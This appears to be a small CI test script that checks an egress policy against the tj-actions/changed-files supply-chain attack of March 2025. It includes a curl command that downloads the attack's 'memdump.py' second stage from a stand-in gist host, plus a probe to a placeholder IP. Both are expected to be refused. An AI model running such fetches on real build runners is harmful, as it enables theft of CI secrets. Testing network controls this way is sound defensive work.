# incident: tj-actions/changed-files, March 2025 (CVE-2025-30066): with a policy in force
# what: an action fetches its second stage from a host that the pool's policy does not allow
# egress: enforce api.github.com:80
# rule: egress-refused
## step: Get changed files
## uses: tj-actions/changed-files@v45
curl -sf http://api.github.com/repos/octo/app > /dev/null
if curl -sf --max-time 5 http://gist.stand-in-githubusercontent.com/nikitastupin/memdump.py -o $RUNNER_TEMP/memdump.py; then exit 1; fi
if curl -sf --max-time 5 http://203.0.113.77/ > /dev/null; then exit 1; fi
